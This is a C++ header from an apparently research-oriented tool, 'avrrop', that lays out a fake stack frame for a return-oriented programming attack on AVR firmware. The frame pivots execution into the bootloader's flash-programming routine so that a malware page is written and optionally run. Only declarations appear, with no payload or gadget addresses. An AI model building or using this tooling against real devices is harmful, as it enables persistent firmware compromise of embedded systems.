#pragma once

#include <array>
#include <cstdint>
#include <span>
#include <string>
#include <utility>
#include <vector>

#include "avrrop/firmware.hpp"

namespace avrrop {

enum class PostAction : std::uint8_t { ExecuteMalware, Reboot };

struct FakeStackField {
  const char* name;
  std::uint16_t offset;
  std::uint16_t width;
  bool must_inject;
};

/// The fake frame consumed by the pivot gadget and the bootloader's page
/// programming routine. Pointers inside it are resolved at serialization.
struct FakeStack {
  static constexpr std::uint16_t kSize = 306;
  static constexpr std::uint16_t kFrameOffset = 20;    // wordBuf; the frame pointer points here
  static constexpr std::uint16_t kMalwareOffset = 28;
  static constexpr std::uint16_t kBuffPOffset = 284;
  static constexpr std::uint16_t kRetAddrOffset = 304;

  std::uint32_t dest_m = 0;  // program word address
  std::uint32_t page_loop_counter = 0;
  std::uint16_t gadget3_addr = 0;
  std::array<std::uint8_t, kPageBytes> malware_page{};
  std::size_t malware_size = 0;
  PostAction post_action = PostAction::ExecuteMalware;

  std::uint16_t final_return() const {
    return post_action == PostAction::ExecuteMalware ? static_cast<std::uint16_t>(dest_m) : 0;
  }
  /// dest_m as a flash byte address, most significant byte first (r17..r14).
  std::array<std::uint8_t, 4> dest_bytes() const;

  /// Full structure placed at `fsp`, padding as 0x00.
  std::vector<std::uint8_t> serialize(std::uint16_t fsp) const;
  /// Offsets (relative to the structure) that must be injected.
  std::vector<std::uint16_t> must_inject_offsets() const;

  static const std::vector<FakeStackField>& fields();
  bool operator==(const FakeStack&) const = default;
};

/// Throws MalwareTooLarge (or InvalidArgument for empty malware) and
/// UnalignedDestination.
FakeStack build_fake_stack(std::span<const std::uint8_t> malware, std::uint32_t dest_m,
                           std::uint32_t gadget3_addr, PostAction post_action);

struct InjectionSchedule {
  std::uint16_t base = 0;
  std::vector<std::pair<std::uint16_t, std::uint8_t>> writes;  // ascending addresses
};

/// One write per must-inject byte. Throws RegionCollision unless
/// [fsp, fsp + size) lies between the end of .bss and the stack limit.
InjectionSchedule injection_schedule(const FakeStack& fs, std::uint16_t fsp, const MemoryLayout& layout);

/// Annotated hex dump, one field per line.
std::string fakestack_dump(const FakeStack& fs, std::uint16_t fsp);
std::string fakestack_json(const FakeStack& fs, std::uint16_t fsp, const InjectionSchedule& schedule);

}  // namespace avrrop
